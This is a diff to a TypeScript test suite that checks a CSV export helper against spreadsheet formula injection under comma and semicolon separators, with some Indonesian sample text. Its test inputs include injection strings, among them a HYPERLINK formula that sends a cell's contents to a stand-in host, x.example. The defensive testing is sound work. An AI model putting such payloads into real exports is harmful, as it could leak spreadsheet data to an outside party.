@@ -26,11 +26,75 @@ describe('csvCell', () => {
     expect(csvCell('kata "kutip"')).toBe('"kata ""kutip"""')
     expect(csvCell('baris\nbaru')).toBe('"baris\nbaru"')
     expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
+    expect(csvCell('Judul;=HYPERLINK("x")')).toBe(`"Judul;'=HYPERLINK(""x"")"`)
   })
 
   it('keeps text that only contains a formula sign later on', () => {
     expect(csvCell('Skor 4=baik')).toBe('Skor 4=baik')
     expect(csvCell('«Lapor» — versi 2')).toBe('«Lapor» — versi 2')
+  })
+})
+
+// How a spreadsheet reads the file: fields cut at `separator` and at line breaks, a quote only
+// opens a quoted field where a field begins (elsewhere it is a plain character), `""` inside
+// a quoted field is one quote, and what follows a closing quote is kept as it is.
+function openAs(csv: string, separator: ',' | ';'): string[] {
+  const fields: string[] = []
+  let i = 0
+  while (i < csv.length) {
+    let field = ''
+    if (csv[i] === '"') {
+      i++
+      while (i < csv.length && !(csv[i] === '"' && csv[i + 1] !== '"')) {
+        field += csv[i]
+        i += csv[i] === '"' ? 2 : 1
+      }
+      i++
+    }
+    while (i < csv.length && csv[i] !== separator && csv[i] !== '\r' && csv[i] !== '\n') {
+      field += csv[i++]
+    }
+    fields.push(field)
+    if (csv[i] === '\r' && csv[i + 1] === '\n') i++
+    i++
+  }
+  return fields
+}
+
+// What a spreadsheet would run: a field that starts with a formula sign, behind any blanks.
+const runs = (field: string) => /^\s*[=+\-@]/.test(field)
+
+describe('a CSV opened in a comma or a semicolon locale', () => {
+  const titles = [
+    'Judul;=HYPERLINK("http://x.example/?d="&A1;"klik")',
+    'Judul;=1+1',
+    'Judul; +62 811',
+    'a,=1+1',
+    'a;"=1+1"',
+    'baris\n=1+1',
+    'baris\r\n@SUM(A1)',
+    'kolom\t-2+3',
+    '=1+1;=2+2',
+  ]
+
+  it.each([',', ';'] as const)('runs no reader-set text as a formula when cut on %j', (sep) => {
+    for (const title of titles) {
+      // Each title first, in the middle and last in its row: where a quote opens a field differs.
+      const csv = toCsv(
+        ['a', 'b', 'c'],
+        [
+          [title, 1, 'x'],
+          [1, title, 'x'],
+          [1, 'x', title],
+        ],
+      )
+      expect(openAs(csv, sep).filter(runs), `${JSON.stringify(title)} cut on ${sep}`).toEqual([])
+    }
+  })
+
+  it('keeps the text readable in the comma locale it is written for', () => {
+    const csv = toCsv(['judul'], [['Judul;=1+1'], ['a,=1+1'], ['Rp 50.000,- per bulan']])
+    expect(openAs(csv, ',')).toEqual(['judul', "Judul;'=1+1", 'a,=1+1', 'Rp 50.000,- per bulan'])
   })
 })
 
